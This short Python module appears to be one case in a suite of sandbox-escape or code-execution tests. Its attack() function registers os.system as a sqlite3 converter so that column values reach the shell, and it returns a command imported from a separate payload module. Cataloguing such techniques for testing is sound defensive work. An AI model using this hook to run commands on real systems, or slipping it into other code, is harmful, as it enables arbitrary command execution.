"""A function of C is written into the table of sqlite3's converters."""
CATEGORY = "callable"
REACH = "run"
NEEDS = ("sqlite3",)

import os
import sqlite3

from . import payload


def attack():
    sqlite3.converters["FOO"] = os.system
    return payload.COMMAND
